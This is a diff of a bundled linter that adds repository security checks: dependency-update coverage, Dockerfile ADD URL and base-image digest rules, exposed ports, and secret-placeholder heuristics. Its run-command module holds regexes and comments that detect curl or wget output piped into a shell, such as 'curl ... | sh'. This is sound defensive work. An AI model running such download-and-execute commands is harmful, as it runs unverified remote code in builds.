+        declares: (ws, f) => cargoNeedsLock(ws.text(f) ?? ''),
+    },
+    { ecosystem: 'maven', managers: ['maven'], matches: (n) => n === 'pom.xml' },
+    {
+        ecosystem: 'gradle',
+        managers: ['gradle'],
+        matches: (n, f) => /^(?:build|settings)\.gradle(?:\.kts)?$/.test(n) || f.endsWith('gradle/libs.versions.toml'),
+    },
+    { ecosystem: 'bundler', managers: ['bundler'], matches: (n) => n === 'Gemfile' || n === 'gems.rb' },
+    {
+        ecosystem: 'composer',
+        managers: ['composer'],
+        matches: (n) => n === 'composer.json',
+        declares: (ws, f) => composerNeedsLock(readJson(ws, f)),
+    },
+    {
+        ecosystem: 'nuget',
+        managers: ['nuget'],
+        matches: (n) => /\.(?:cs|fs|vb)proj$|^packages\.config$|^Directory\.Packages\.props$/i.test(n),
+        declares: hasText(/PackageReference|PackageVersion|<package /),
+    },
+];
+const WORKFLOW = /^\.github\/workflows\/[^/]+\.ya?ml$/;
+/** Manifests of the workspace, minus files matching the `exclude` globs, in index order (cached). */
+function detectManifests(ws, exclude) {
+    const excluded = exclude.length > 0 ? ws.matcher(exclude) : () => false;
+    return ws.memo('deps.manifests', exclude.join('\u0000'), () => {
+        const out = [];
+        for (const file of ws.files) {
+            if (excluded(file))
+                continue;
+            const name = posix_namespaceObject.basename(file);
+            const kind = KINDS.find((k) => k.matches(name, file));
+            if (!kind || (kind.declares && !kind.declares(ws, file)))
+                continue;
+            out.push({ file, dir: dirOf(file), ecosystem: kind.ecosystem, managers: kind.managers });
+        }
+        for (const file of dockerfilePaths(ws)) {
+            if (excluded(file))
+                continue;
+            const model = readDockerfile(ws, file);
+            const external = model?.stages.some((s) => s.from.image && s.from.image.toLowerCase() !== 'scratch');
+            if (external)
+                out.push({ file, dir: dirOf(file), ecosystem: 'docker', managers: ['dockerfile'] });
+        }
+        // Dependabot reads every workflow of .github/workflows for the directory "/".
+        const workflow = ws.files.find((f) => WORKFLOW.test(f) && /^\s*-?\s*uses:/m.test(ws.text(f) ?? ''));
+        if (workflow)
+            out.push({ file: workflow, dir: '', ecosystem: 'github-actions', managers: ['github-actions'] });
+        return out;
+    });
+}
+/** "" for a root file, else the directory path. */
+function dirOf(file) {
+    const d = posix_namespaceObject.dirname(file);
+    return d === '.' ? '' : d;
+}
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/deps/update-config.js
+
+
+/**
+ * Readers of dependency-update configuration: Dependabot's `updates` entries and Renovate's manager
+ * and path settings, reduced to "does this configuration update manifest X of ecosystem Y?".
+ */
+/** Where Dependabot and Renovate read their configuration, in the order they look. */
+const DEPENDABOT_FILES = ['.github/dependabot.yml', '.github/dependabot.yaml'];
+const RENOVATE_FILES = [
+    'renovate.json',
+    'renovate.json5',
+    '.github/renovate.json',
+    '.github/renovate.json5',
+    '.gitlab/renovate.json',
+    '.gitlab/renovate.json5',
+    '.renovaterc',
+    '.renovaterc.json',
+    '.renovaterc.json5',
+];
+/** The Dependabot configuration file and its entries, or undefined when there is none. */
+function readDependabot(ws) {
+    const file = DEPENDABOT_FILES.find((f) => ws.has(f));
+    if (!file)
+        return undefined;
+    const parsed = ws.yaml(file);
+    const root = parsed?.ok ? parsed.documents[0]?.value : undefined;
+    const updates = root?.updates;
+    const entries = [];
+    for (const u of Array.isArray(updates) ? updates : []) {
+        if (!u || typeof u !== 'object')
+            continue;
+        const { 'package-ecosystem': ecosystem, directory, directories } = u;
+        if (typeof ecosystem !== 'string')
+            continue;
+        const dirs = [directory, ...(Array.isArray(directories) ? directories : [])].filter((d) => typeof d === 'string');
+        entries.push({ ecosystem, directories: dirs.map(normaliseDir) });
+    }
+    return { file, entries };
+}
+/** Dependabot directories are repository-absolute (`/`, `/apps/web`, `/apps/*`); ours are relative. */
+function normaliseDir(dir) {
+    return dir
+        .trim()
+        .replace(/^\.?\/+/, '')
+        .replace(/\/+$/, '');
+}
+/** Whether a (normalised) Dependabot directory or glob names `dir`. */
+function directoryMatches(pattern, dir) {
+    if (pattern === dir)
+        return true;
+    if (pattern === '**' || pattern === '*')
+        return pattern === '**' || !dir.includes('/');
+    if (!/[*?[{]/.test(pattern))
+        return false;
+    return picomatch(pattern, { dot: true })(dir);
+}
+/** Renovate's default `ignorePaths`, and the longer list that its recommended presets set. */
+const DEFAULT_IGNORE = ['**/node_modules/**', '**/bower_components/**'];
+const PRESET_IGNORE = [
+    ...DEFAULT_IGNORE,
+    '**/vendor/**',
+    '**/examples/**',
+    '**/__tests__/**',
+    '**/test/**',
+    '**/tests/**',
+    '**/__fixtures__/**',
+];
+/** The Renovate configuration (a config file, or the `renovate` key of the root package.json). */
+function readRenovate(ws) {
+    let file = RENOVATE_FILES.find((f) => ws.has(f));
+    let value;
+    if (file) {
+        value = parseJsonish(ws.text(file) ?? '');
+    }
+    else {
+        const pkg = readJson(ws, 'package.json');
+        if (!pkg || typeof pkg.renovate !== 'object' || pkg.renovate === null)
+            return undefined;
+        file = 'package.json';
+        value = pkg.renovate;
+    }
+    if (!value || typeof value !== 'object' || Array.isArray(value)) {
+        return { file, understood: false, enabled: true, disabledManagers: new Set(), ignored: () => false };
+    }
+    const config = value;
+    const managers = Array.isArray(config.enabledManagers)
+        ? new Set(config.enabledManagers.filter((m) => typeof m === 'string'))
+        : undefined;
+    const disabled = new Set();
+    for (const [key, v] of Object.entries(config)) {
+        if (v && typeof v === 'object' && v.enabled === false)
+            disabled.add(key);
+    }
+    const presets = Array.isArray(config.extends) ? config.extends.filter((e) => typeof e === 'string') : [];
+    const recommended = presets.some((p) => /config:(?:recommended|base|best-practices)|^:ignoreModulesAndTests$/.test(p));
+    const ignorePaths = Array.isArray(config.ignorePaths)
+        ? config.ignorePaths.filter((p) => typeof p === 'string')
+        : recommended
+            ? PRESET_IGNORE
+            : DEFAULT_IGNORE;
+    const includePaths = Array.isArray(config.includePaths)
+        ? config.includePaths.filter((p) => typeof p === 'string')
+        : [];
+    const ignore = ignorePaths.length > 0 ? picomatch(ignorePaths, { dot: true }) : () => false;
+    const include = includePaths.length > 0 ? picomatch(includePaths, { dot: true }) : () => true;
+    return {
+        file,
+        understood: true,
+        enabled: config.enabled !== false,
+        ...(managers ? { enabledManagers: managers } : {}),
+        disabledManagers: disabled,
+        ignored: (f) => ignore(f) || !include(f),
+    };
+}
+/** Whether Renovate updates a manifest read by any of `managers`. */
+function renovateCovers(config, file, managers) {
+    if (!config.understood)
+        return true;
+    if (!config.enabled || config.ignored(file))
+        return false;
+    return managers.some((m) => (!config.enabledManagers || config.enabledManagers.has(m)) && !config.disabledManagers.has(m));
+}
+/**
+ * JSON, or JSON5 as Renovate writes it (comments, trailing commas). Comments are removed by a
+ * string-aware single pass; anything else JSON5 allows makes the file "not understood".
+ */
+function parseJsonish(text) {
+    try {
+        return JSON.parse(text);
+    }
+    catch {
+        // fall through to the JSON5 subset
+    }
+    let out = '';
+    for (let i = 0; i < text.length; i++) {
+        const c = text[i];
+        if (c === '"' || c === "'") {
+            let j = i + 1;
+            while (j < text.length && text[j] !== c && text[j] !== '\n')
+                j += text[j] === '\\' ? 2 : 1;
+            const body = text.slice(i + 1, j);
+            out += c === '"' ? `"${body}"` : `"${body.replace(/"/g, '\\"')}"`;
+            i = j;
+        }
+        else if (c === '/' && text[i + 1] === '/') {
+            while (i < text.length && text[i] !== '\n')
+                i++;
+            out += '\n';
+        }
+        else if (c === '/' && text[i + 1] === '*') {
+            const end = text.indexOf('*/', i + 2);
+            i = end === -1 ? text.length : end + 1;
+        }
+        else
+            out += c;
+    }
+    try {
+        return JSON.parse(out.replace(/,(\s*[}\]])/g, '$1').replace(/([{,]\s*)([A-Za-z_$][\w$]*)\s*:/g, '$1"$2":'));
+    }
+    catch {
+        return undefined;
+    }
+}
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/deps/update-coverage.js
+
+
+
+
+
+
+/** Ecosystems whose root entry updates manifests in subdirectories (multi-module builds, solutions). */
+const RECURSIVE = new Set(['gradle', 'maven', 'nuget']);
+/**
+ * `deps.update-coverage`: every ecosystem and directory that has a manifest is updated by the
+ * repository's Dependabot or Renovate configuration. Dependabot must have an `updates` entry with the
+ * manifest's `package-ecosystem` and a `directory`/`directories` entry (globs allowed) naming its
+ * directory, its npm or Cargo workspace root, or for Gradle, Maven and NuGet any ancestor. Renovate
+ * covers every manifest unless `enabled: false`, `enabledManagers` or a manager's `enabled: false`
+ * leave it out; paths it ignores (`ignorePaths`, `includePaths`, the presets' defaults such as
+ * the examples and test directories) are a deliberate choice and not reported. With no configuration at all there is nothing to
+ * compare (the `dependency-update-tool` rule reports that); one finding per uncovered directory.
+ */
+const depsUpdateCoverage = defineEvaluator({
+    kind: 'deps.update-coverage',
+    summary: 'Dependabot or Renovate updates every ecosystem and directory that has a manifest.',
+    schema: {
+        type: 'object',
+        additionalProperties: false,
+        properties: {
+            exclude: globList('Globs of manifests to ignore (vendored code, fixtures). Setting it replaces the defaults.', {
+                default: [
+                    '**/node_modules/**',
+                    '**/vendor/**',
+                    '**/bower_components/**',
+                    '**/fixtures/**',
+                    '**/__fixtures__/**',
+                    '**/testdata/**',
+                ],
+            }),
+        },
+    },
+    evaluate({ options, workspace }) {
+        const dependabot = readDependabot(workspace);
+        const renovate = readRenovate(workspace);
+        if (!dependabot && !renovate)
+            return [];
+        const findings = [];
+        const reported = new Set();
+        for (const m of detectManifests(workspace, options.exclude)) {
+            // Paths that Renovate is told to ignore are a deliberate choice, like this rule's `exclude`.
+            if (renovate && (renovate.ignored(m.file) || renovateCovers(renovate, m.file, m.managers)))
+                continue;
+            if (dependabot && dependabotCovers(workspace, dependabot.entries, m))
+                continue;
+            const id = `${m.ecosystem}\u0000${m.dir}`;
+            if (reported.has(id))
+                continue;
+            reported.add(id);
+            findings.push({
+                message: update_coverage_describe(m, dependabot, renovate?.file),
+                location: fileLocation(m.file),
+                key: `${m.ecosystem}:${m.dir}`,
+            });
+        }
+        return findings;
+    },
+});
+/** Whether an entry of the manifest's ecosystem names its directory or a directory that covers it. */
+function dependabotCovers(ws, entries, m) {
+    const dirs = entries
+        .filter((e) => e.ecosystem === m.ecosystem || (m.ecosystem === 'pip' && e.ecosystem === 'uv'))
+        .flatMap((e) => e.directories);
+    if (dirs.length === 0)
+        return false;
+    const candidates = [m.dir];
+    if (m.ecosystem === 'github-actions')
+        candidates.push('.github/workflows');
+    if (m.ecosystem === 'npm')
+        candidates.push(...npmWorkspaceRoots(ws, m.dir));
+    if (m.ecosystem === 'cargo')
+        candidates.push(...cargoWorkspaceRoots(ws, m.dir));
+    if (RECURSIVE.has(m.ecosystem))
+        candidates.push(...update_coverage_ancestors(m.dir));
+    return candidates.some((c) => dirs.some((d) => directoryMatches(d, c)));
+}
+function update_coverage_ancestors(dir) {
+    const out = [];
+    for (let d = dir; d !== '';) {
+        d = d.includes('/') ? d.slice(0, d.lastIndexOf('/')) : '';
+        out.push(d);
+    }
+    return out;
+}
+function update_coverage_describe(m, dependabot, renovateFile) {
+    const where = m.dir === '' ? 'the repository root' : m.dir;
+    const reasons = [];
+    if (dependabot) {
+        const same = dependabot.entries.filter((e) => e.ecosystem === m.ecosystem);
+        reasons.push(same.length === 0
+            ? `${dependabot.file} has no \`updates\` entry with \`package-ecosystem: ${m.ecosystem}\``
+            : `no \`${m.ecosystem}\` entry in ${dependabot.file} lists the directory "/${m.dir}" ` +
+                `(it lists ${same.flatMap((e) => e.directories.map((d) => `"/${d}"`)).join(', ')})`);
+    }
+    if (renovateFile)
+        reasons.push(`the Renovate configuration (${renovateFile}) leaves its manager out`);
+    return (`${m.file} (${m.ecosystem}) in ${where} gets no automated dependency updates: ${reasons.join(', and ')}. ` +
+        'Vulnerable versions there are not updated.');
+}
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/dockerfile/add-url.js
+
+
+
+/** A URL's password is never repeated in a message or key. */
+function withoutPassword(url) {
+    return url.replace(/\/\/([^/@\s:]*):[^/@\s]*@/, '//$1:…@');
+}
+/** Remote sources ADD fetches itself: http(s) URLs and git repositories. */
+const REMOTE = /^(?:https?:\/\/|git@|git:\/\/|ssh:\/\/)/i;
+/**
+ * `dockerfile.add-url`: `ADD` instructions that download a URL without `--checksum`. The file is
+ * fetched at build time from whatever the server returns, unverified. Sources are resolved with the
+ * ARG and ENV values in force at the instruction, so `ADD ${URL} /opt/` is judged by its default.
+ * A git source is reported unless it names a full commit (`#<40 hex>`), since `--checksum` does not
+ * apply to it.
+ */
+const dockerfileAddUrl = defineEvaluator({
+    kind: 'dockerfile.add-url',
+    summary: 'Dockerfile ADD instructions that fetch a URL without --checksum (or a git ref that is not a commit).',
+    schema: { type: 'object', additionalProperties: false, properties: {} },
+    evaluate({ workspace }) {
+        const findings = [];
+        for (const file of dockerfilePaths(workspace)) {
+            const model = readDockerfile(workspace, file);
+            if (!model)
+                continue;
+            for (const stage of model.stages) {
+                for (const add of stage.adds) {
+                    for (const source of add.sources) {
+                        if (!REMOTE.test(source.resolved))
+                            continue;
+                        const git = /^(?:git@|git:\/\/|ssh:\/\/)|\.git(?:#|$)/i.test(source.resolved);
+                        if (git ? /#[0-9a-f]{40}(?::|$)/i.test(source.resolved) : add.flags.has('checksum'))
+                            continue;
+                        const url = withoutPassword(source.resolved);
+                        const via = source.resolved === source.written ? '' : ` (${withoutPassword(source.written)})`;
+                        findings.push({
+                            message: git
+                                ? `ADD fetches the git repository ${url}${via} at a branch or tag, which can move: ` +
+                                    'pin a full commit (`#<sha>`) or clone it in a verified build step.'
+                                : `ADD downloads ${url}${via} without --checksum, so whatever the server returns ` +
+                                    'is built in unverified: use `ADD --checksum=sha256:<digest>` or download and verify in a RUN step.',
+                            location: locationFromSpan(file, source.span),
+                            key: withoutPassword(source.written),
+                        });
+                    }
+                }
+            }
+        }
+        return findings;
+    },
+});
 
 ;// CONCATENATED MODULE: ./lib/core/parsers/image-ref.js
 /**
@@ -23721,7 +34460,7 @@ const dockerfileBaseImage = defineEvaluator({
             const vars = globalArgValues(model);
             for (const stage of model.stages) {
                 const verdict = judgeBaseImage(model, stage, vars);
-                const message = verdict && describe(verdict, stage, options.unresolved === 'report');
+                const message = verdict && base_image_describe(verdict, stage, options.unresolved === 'report');
                 if (!message)
                     continue;
                 const span = stage.from.imageSpan ?? stage.from.span;
@@ -23760,7 +34499,7 @@ function judgeBaseImage(model, stage, vars = globalArgValues(model)) {
         return { kind: 'unresolved', names: unresolved };
     return { kind: 'untagged', resolved: text };
 }
-function describe(verdict, stage, reportUnresolved) {
+function base_image_describe(verdict, stage, reportUnresolved) {
     const written = stage.from.image ?? '';
     const where = stage.from.name ? ` of stage "${stage.from.name}"` : '';
     const image = (resolved) => resolved === written
@@ -23787,6 +34526,120 @@ function describe(verdict, stage, reportUnresolved) {
         default:
             return undefined;
     }
+}
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/dockerfile/base-image-digest.js
+
+
+
+
+
+
+/**
+ * `dockerfile.base-image-digest`: stages built FROM an external image that carries a version tag but
+ * no `@sha256:` digest. A tag can be re-pushed, so only a digest names the exact image that was
+ * reviewed. Untagged and `latest` images are left to `dockerfile.base-image` (one finding per line);
+ * `scratch`, earlier stages and versions that depend on an ARG without a default are not judged.
+ */
+const dockerfileBaseImageDigest = defineEvaluator({
+    kind: 'dockerfile.base-image-digest',
+    summary: 'Dockerfile stages whose external base image has a tag but no @sha256 digest.',
+    schema: { type: 'object', additionalProperties: false, properties: {} },
+    evaluate({ workspace }) {
+        const findings = [];
+        for (const file of dockerfilePaths(workspace)) {
+            const model = readDockerfile(workspace, file);
+            if (!model)
+                continue;
+            const vars = globalArgValues(model);
+            for (const stage of model.stages) {
+                if (judgeBaseImage(model, stage, vars)?.kind !== 'pinned')
+                    continue;
+                const written = stage.from.image ?? '';
+                const resolved = expandVariables(written, vars, model.escapeChar).text;
+                const ref = parseImageRef(resolved);
+                // A digest of any form pins (Docker rejects a malformed one at build time).
+                if (!ref || ref.digest !== undefined || resolved.includes(UNRESOLVED))
+                    continue;
+                const shown = resolved === written ? `"${written}"` : `"${written}" (with ARG defaults: "${resolved}")`;
+                findings.push({
+                    message: `Base image ${shown} is pinned by tag only: a tag can be re-pushed, so rebuilds may get a ` +
+                        'different image. Add its digest (`image:tag@sha256:...`) and let Dependabot or Renovate update it.',
+                    location: locationFromSpan(file, stage.from.imageSpan ?? stage.from.span),
+                    key: written,
+                });
+            }
+        }
+        return findings;
+    },
+});
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/dockerfile/exposed-ports.js
+
+
+
+
+/**
+ * `dockerfile.exposed-ports`: EXPOSE of any of `ports` (default 22, SSH), as a single port, with a
+ * protocol (`22/tcp`) or inside a range (`20-25`), after substituting the ARG and ENV values in force
+ * (`EXPOSE ${SSH_PORT}` with `ARG SSH_PORT=22`). Ports that stay unresolved are not judged.
+ */
+const dockerfileExposedPorts = defineEvaluator({
+    kind: 'dockerfile.exposed-ports',
+    summary: 'Dockerfile EXPOSE instructions that publish one of the listed ports (default: 22, SSH).',
+    schema: {
+        type: 'object',
+        additionalProperties: false,
+        properties: {
+            ports: {
+                type: 'array',
+                minItems: 1,
+                uniqueItems: true,
+                items: { type: 'integer', minimum: 1, maximum: 65535 },
+                default: [22],
+                description: 'Ports that must not be exposed.',
+            },
+            message: { type: 'string', minLength: 1, description: 'Why these ports must not be exposed.' },
+        },
+    },
+    evaluate({ options, workspace }) {
+        const forbidden = new Set(options.ports);
+        const findings = [];
+        for (const file of dockerfilePaths(workspace)) {
+            const model = readDockerfile(workspace, file);
+            if (!model)
+                continue;
+            for (const stage of model.stages) {
+                for (const word of stage.exposes) {
+                    if (word.resolved.includes(UNRESOLVED))
+                        continue;
+                    const port = exposedPort(word.resolved, forbidden);
+                    if (port === undefined)
+                        continue;
+                    const via = word.resolved === word.written ? '' : ` (${word.written})`;
+                    findings.push({
+                        message: `EXPOSE ${word.resolved}${via} publishes port ${port}` +
+                            (options.message ? `: ${options.message}` : '.'),
+                        location: locationFromSpan(file, word.span),
+                        key: `${port}:${word.written}`,
+                    });
+                }
+            }
+        }
+        return findings;
+    },
+});
+/** The first forbidden port an EXPOSE word covers (`22`, `22/tcp`, `20-25/udp`), if any. */
+function exposedPort(word, forbidden) {
+    const m = /^(\d{1,5})(?:-(\d{1,5}))?(?:\/(?:tcp|udp|sctp))?$/i.exec(word.trim());
+    if (!m)
+        return undefined;
+    const low = Number(m[1]);
+    const high = m[2] === undefined ? low : Number(m[2]);
+    for (const p of forbidden)
+        if (p >= low && p <= high)
+            return p;
+    return undefined;
 }
 
 ;// CONCATENATED MODULE: ./lib/core/evaluators/dockerfile/root-user.js
@@ -23853,124 +34706,279 @@ function effectiveUser(model, final) {
     return { stage: final };
 }
 
-;// CONCATENATED MODULE: ./lib/core/evaluators/generic/shared.js
+;// CONCATENATED MODULE: ./lib/core/evaluators/dockerfile/run-command.js
+
+
+/** The RUN audits this evaluator implements (`check.with.audit`). */
+const RUN_AUDITS = ['pipe-to-shell', 'sudo'];
+/** Where a shell command can start: line start, after `;`, `&&`, `||`, `|`, `(`, backtick or `$(`. */
+const COMMAND_START = String.raw `(?:^|[;&|(\x60\n]|\$\()[ \t]*`;
+const SUDO = new RegExp(`${COMMAND_START}(sudo)(?![\\w.-])`, 'g');
+/** A download command somewhere in a pipeline segment. */
+const DOWNLOAD = /(?:^|[\s(])(curl|wget)(?![\w.-])/;
+/** The command after a pipe is a shell or an interpreter reading the script from stdin. */
+const INTERPRETER = /^[ \t]*(?:sudo(?:[ \t]+-\S+)*[ \t]+)?(?:env[ \t]+)?(?:\S*\/)?(?:(?:ba|da|z|k|fi|a)?sh|python[0-9.]*|perl|ruby|node)(?![\w.-])/;
+/** `sh -c "$(curl ...)"` and `bash <(curl ...)`: the same, through a substitution. */
+const SUBSTITUTED = /(?<![\w.-])(?:ba|da|z|k)?sh[ \t]+(?:-c[ \t]+)?["']?(?:\$\(|<\(|\x60)[ \t]*(curl|wget)(?![\w.-])/g;
+const SEPARATORS = new Set([';', '&', '|', '\n', '(']);
+/**
+ * Indexes of downloads piped into a shell. Each `|` splits the text into the segment before it (back
+ * to the previous separator) and after it, so every character is looked at a bounded number of times:
+ * linear on any input, unlike one pattern with a long optional middle.
+ */
+function pipeToShell(text) {
+    const out = [];
+    let segmentStart = 0;
+    for (let i = 0; i < text.length; i++) {
+        const c = text[i];
+        if (!SEPARATORS.has(c))
+            continue;
+        const isPipe = c === '|' && text[i - 1] !== '|' && text[i + 1] !== '|';
+        if (isPipe) {
+            const left = text.slice(segmentStart, i);
+            const download = DOWNLOAD.exec(left);
+            if (download) {
+                let j = i + 1;
+                while (j < text.length && !SEPARATORS.has(text[j]))
+                    j++;
+                if (INTERPRETER.test(text.slice(i + 1, j))) {
+                    out.push(segmentStart + download.index + download[0].length - download[1].length);
+                }
+            }
+        }
+        segmentStart = i + 1;
+    }
+    SUBSTITUTED.lastIndex = 0;
+    for (let m = SUBSTITUTED.exec(text); m; m = SUBSTITUTED.exec(text))
+        out.push(m.index);
+    return out.sort((a, b) => a - b);
+}
+const MESSAGES = {
+    'pipe-to-shell': 'RUN pipes a download straight into a shell or interpreter: the script runs unreviewed and unverified, ' +
+        'and a compromised or intercepted server runs its code in the build. Download to a file, verify its ' +
+        'checksum or signature, then run it.',
+    sudo: 'RUN uses sudo: build steps already run as the current USER, so sudo only adds a setuid binary and a ' +
+        'privilege path to the image. Run the step before switching USER, or as root with `USER root` scoped to it.',
+};
+/**
+ * `dockerfile.run-command`: audits of RUN commands, reported on the physical line of the offending
+ * command inside multi-line RUNs: `pipe-to-shell` (`curl ... | sh`) and `sudo`.
+ */
+const dockerfileRunCommand = defineEvaluator({
+    kind: 'dockerfile.run-command',
+    summary: 'Dockerfile RUN commands that pipe a download into a shell (pipe-to-shell) or use sudo.',
+    schema: {
+        type: 'object',
+        additionalProperties: false,
+        required: ['audit'],
+        properties: {
+            audit: { enum: [...RUN_AUDITS], description: 'Which command audit: pipe-to-shell or sudo.' },
+        },
+    },
+    evaluate({ options, workspace }) {
+        const findings = [];
+        for (const file of dockerfilePaths(workspace)) {
+            const model = readDockerfile(workspace, file);
+            if (!model)
+                continue;
+            for (const stage of model.stages) {
+                for (const run of stage.runs) {
+                    for (const index of options.audit === 'sudo' ? sudoAt(run) : pipeToShell(run.value)) {
+                        const at = positionInRun(model, run, index);
+                        findings.push({
+                            message: MESSAGES[options.audit],
+                            location: { path: file, startLine: at.line, startColumn: at.column, endLine: at.line },
+                            key: `${options.audit}:${run.value.slice(index, index + 120).replace(/\s+/g, ' ')}`,
+                        });
+                    }
+                }
+            }
+        }
+        return findings;
+    },
+});
+/** Indexes in the RUN's joined text where a `sudo` command starts. */
+function sudoAt(run) {
+    const out = [];
+    SUDO.lastIndex = 0;
+    for (let m = SUDO.exec(run.value); m; m = SUDO.exec(run.value)) {
+        out.push(m.index + m[0].length - 4);
+        if (m[0].length === 0)
+            SUDO.lastIndex += 1;
+    }
+    return out;
+}
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/secrets/values.js
 
 /**
- * Content patterns see at most this many characters of a line: a bound on the work one regular
- * expression can do on one line of an attacker-controlled file (minified bundles, crafted input).
+ * Judgements about a candidate secret value that every detector shares: how random it looks, whether
+ * it is a placeholder, and how it may be shown. Nothing here returns or logs the value itself except
+ * {@link redact}, whose output is at most four leading characters and the length.
  */
-const MAX_LINE_CHARS = 20_000;
-/** Flags a content pattern may use; `g`/`y` are excluded because the evaluators drive the scanning. */
-const ALLOWED_FLAGS = 'imsu';
-/** JSON Schema of a non-empty list of globs. */
-function globList(description, extra = {}) {
-    return {
-        type: 'array',
-        items: { type: 'string', minLength: 1 },
-        description,
-        ...extra,
-    };
-}
-/** JSON Schema of a regular expression source (JavaScript syntax). */
-function regexSource(description) {
-    return { type: 'string', minLength: 1, format: 'regex', description };
-}
-/** JSON Schema of the `flags` of a pattern. */
-const FLAGS_SCHEMA = {
-    type: 'string',
-    pattern: `^[${ALLOWED_FLAGS}]*$`,
-    default: '',
-    description: 'JavaScript regular-expression flags: any of "i" (ignore case), "u" (Unicode), "s" and "m" (rarely ' +
-        'useful, since patterns see one line at a time).',
-};
-/** JSON Schema of the shared `ignoreCase` option of path-selecting kinds. */
-const IGNORE_CASE_SCHEMA = {
-    type: 'boolean',
-    default: false,
-    description: 'Match `paths` and `except` without regard to case (e.g. SECURITY.md and security.md).',
-};
-/**
- * Compiles a pattern once per evaluation. Patterns are matched against single lines, so the flags that
- * change scanning (`g`, `y`) are never added. Throws an error naming the pattern when it is invalid
- * (the options schema catches most syntax errors at load time; a flag combination can still fail).
- */
-function compilePattern(source, flags = '') {
-    const unique = [...new Set(flags)].filter((f) => ALLOWED_FLAGS.includes(f)).join('');
-    try {
-        return new RegExp(source, unique);
+/** Shannon entropy of the characters of `value`, in bits per character (0 for an empty string). */
+function shannonEntropy(value) {
+    if (value.length === 0)
+        return 0;
+    const counts = new Map();
+    for (let i = 0; i < value.length; i++) {
+        const c = value.charCodeAt(i);
+        counts.set(c, (counts.get(c) ?? 0) + 1);
     }
-    catch (err) {
-        throw new Error(`invalid pattern /${source}/${unique}: ${err instanceof Error ? err.message : String(err)}`);
+    let bits = 0;
+    for (const n of counts.values()) {
+        const p = n / value.length;
+        bits -= p * Math.log2(p);
     }
+    return bits;
 }
-/** `/source/flags`, the way patterns are shown in messages. */
-function showPattern(re) {
-    return `/${re.source}/${re.flags}`;
+/** How many of lower case, upper case, digits and other characters `value` mixes (0-4). */
+function characterClasses(value) {
+    let lower = 0;
+    let upper = 0;
+    let digit = 0;
+    let other = 0;
+    for (let i = 0; i < value.length; i++) {
+        const c = value.charCodeAt(i);
+        if (c >= 97 && c <= 122)
+            lower = 1;
+        else if (c >= 65 && c <= 90)
+            upper = 1;
+        else if (c >= 48 && c <= 57)
+            digit = 1;
+        else
+            other = 1;
+    }
+    return lower + upper + digit + other;
 }
 /**
- * Calls `visit` for each line of `text` (1-based numbers, without the line terminator, truncated to
- * {@link MAX_LINE_CHARS}). Returning `false` stops the walk. A trailing newline does not add a line.
+ * Words that documentation, templates and tests put where a secret goes. Matched anywhere in the
+ * value, case-insensitively, so `sk_live_EXAMPLEKEY...` and `<your-token-here>` are both placeholders.
  */
-function forEachLine(text, visit) {
-    let start = 0;
-    let lineNo = 1;
-    while (start < text.length) {
-        let end = text.indexOf('\n', start);
-        if (end === -1)
-            end = text.length;
-        let stop = end;
-        if (stop > start && text.charCodeAt(stop - 1) === 13)
-            stop -= 1;
-        const line = text.slice(start, Math.min(stop, start + MAX_LINE_CHARS));
-        if (visit(line, lineNo) === false)
-            return;
-        start = end + 1;
-        lineNo += 1;
-    }
+const PLACEHOLDER_WORDS = /example|sample|placeholder|changeme|change[_-]me|dummy|fake|redacted|replace[_-]?me|your[_-]|xxxx|\*\*\*|\.\.\.|…|<[^>]{0,64}>|insert[_-]|notreal|not[_-]a[_-]real|lorem/i;
+/** Template and interpolation syntaxes: the value is read from elsewhere at run time. */
+const INTERPOLATION = /\$\{|\{\{|\$\(|%\(|#\{|^\$[A-Za-z_]|^%[A-Za-z_]+%$|%s|^@[A-Za-z_]+@$|^\{[A-Za-z_]+\}$/;
+/**
+ * Well-known published values that look like secrets but are not (the Azure Storage emulator's
+ * account key). Kept as SHA-256 digests so that no scanner mistakes this file for a leak.
+ */
+const PUBLIC_VALUES = new Set([
+    // Azurite / Azure Storage Emulator account key (documented by Microsoft for local development).
+    '0011cc25eb4320717494d2703e8cba85743e71b500283c21c8b88147992f9059',
+]);
+/** SHA-256 hex digest of a value; used for identities and the public-value list, never shown whole. */
+function digest(value) {
+    return (0,external_node_crypto_namespaceObject.createHash)('sha256').update(value).digest('hex');
 }
-/** The first line of `text` that matches `re`, as `{ lineNo, match }`, or undefined. */
-function firstMatchingLine(text, re) {
-    let found;
-    forEachLine(text, (line, lineNo) => {
-        const match = re.exec(line);
-        if (!match)
-            return true;
-        found = { lineNo, match };
+/** True when a value is published sample material (see {@link PUBLIC_VALUES}). */
+function isPublicValue(value) {
+    return PUBLIC_VALUES.has(digest(value));
+}
+/**
+ * True when the value (or the random part of a token, after its fixed prefix) is evidently not a real
+ * secret: a placeholder word, an interpolation, one repeated character, a run such as `123456789` or
+ * `abcdefgh`, or too few distinct characters to be random.
+ */
+function isPlaceholder(value) {
+    if (value.length === 0)
+        return true;
+    if (PLACEHOLDER_WORDS.test(value) || INTERPOLATION.test(value))
+        return true;
+    if (isPublicValue(value))
+        return true;
+    const distinct = new Set(value).size;
+    if (distinct <= 2 || (value.length >= 12 && distinct <= 4))
+        return true;
+    return isSequential(value);
+}
+/** True when at least 80% of neighbouring characters step by +1 or -1 (`0123456789`, `abcdef`, `zyx`). */
+function isSequential(value) {
+    if (value.length < 6)
         return false;
-    });
-    return found;
+    let steps = 0;
+    for (let i = 1; i < value.length; i++) {
+        const d = value.charCodeAt(i) - value.charCodeAt(i - 1);
+        if (d === 1 || d === -1)
+            steps += 1;
+    }
+    return steps / (value.length - 1) >= 0.8;
 }
 /**
- * Files matching any of `paths` and none of `except`, in index order. Case-insensitive selection
- * compiles its own matchers; the case-sensitive path reuses the workspace's cached ones.
+ * The only form in which a secret is ever shown: up to four leading characters (fewer for short
+ * values, none below eight characters) and the length, e.g. `ghp_… (40 chars)`. For tokens the
+ * leading characters are the issuer's fixed prefix, which says what the secret is without revealing it.
  */
-function selectFiles(workspace, selection) {
-    const except = selection.except ?? [];
-    if (selection.ignoreCase) {
-        const include = picomatch(selection.paths, { dot: true, nocase: true });
-        const exclude = except.length > 0 ? picomatch(except, { dot: true, nocase: true }) : undefined;
-        return workspace.files.filter((f) => include(f) && !exclude?.(f));
-    }
-    const files = workspace.glob(selection.paths);
-    if (except.length === 0)
-        return files;
